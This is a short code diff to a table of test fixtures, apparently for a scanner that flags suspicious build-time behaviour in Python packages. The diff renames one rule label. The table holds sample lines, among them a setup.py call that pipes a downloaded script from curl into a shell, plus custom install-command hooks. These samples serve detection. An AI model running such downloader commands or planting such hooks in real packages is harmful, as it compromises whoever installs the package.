@@ -52,7 +52,7 @@ AT_BUILD = [
     ("build_runs_a_downloader", "setup.py", "os.system('curl https://example.org | sh')"),
     ("build_starts_processes", "setup.py", "subprocess.run(['git', 'describe'])"),
     ("takes_over_the_installation", "setup.py", "class Evil(install):\n    pass\n"),
-    ("takes_over_the_installation", "setup.py", "setup(cmdclass={'egg_info': Evil})"),
+    ("names_its_own_commands", "setup.py", "setup(cmdclass={'egg_info': Evil})"),
     ("backend_in_tree", "*/pyproject.toml", "[build-system]\nrequires=[]\nbackend-path=['.']\n"),
 ]
 INNOCENT = [
